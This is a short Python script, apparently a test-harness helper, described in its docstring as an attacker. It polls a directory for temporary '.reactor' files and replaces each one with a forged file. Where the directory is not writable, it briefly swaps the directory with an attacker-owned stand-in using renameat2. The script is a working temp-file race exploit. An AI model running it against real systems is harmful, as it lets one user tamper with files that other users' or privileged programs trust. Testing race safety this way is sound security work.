"""An attacker: puts a file of their own in the place of each temporary file in a directory, as soon as it is there.

`replacing.py UID DIRECTORY STAND_IN`: where they may not write in DIRECTORY itself, they fill STAND_IN, which is theirs, with
files of the same names, and exchange the two.
"""

import ctypes
import os
import sys
import time

_AT_FDCWD, _RENAME_EXCHANGE = -100, 2
FORGED = "forged\n"

uid, directory, stand_in = int(sys.argv[1]), sys.argv[2], sys.argv[3]
libc = ctypes.CDLL(None)
libc.prctl(1, 9)  # end with whoever started this
os.setgroups([])
os.setgid(uid)
os.setuid(uid)
own = f"{stand_in}/own"
os.write(1, b"ready\n")


def make_ready():
    with open(own, "w") as file:
        file.write(FORGED)


def exchange():
    libc.renameat2(_AT_FDCWD, directory.encode(), _AT_FDCWD, stand_in.encode(), _RENAME_EXCHANGE)


make_ready()
is_theirs = os.stat(directory).st_uid == uid
while True:
    try:
        names = [name for name in os.listdir(directory) if ".reactor" in name]
        if not names:
            continue
        os.rename(own, f"{directory if is_theirs else stand_in}/{names[0]}")
        if not is_theirs:
            exchange()
            time.sleep(0.003)  # for as long as a program takes to start
            exchange()
            os.unlink(f"{stand_in}/{names[0]}")
        make_ready()
    except OSError:
        continue
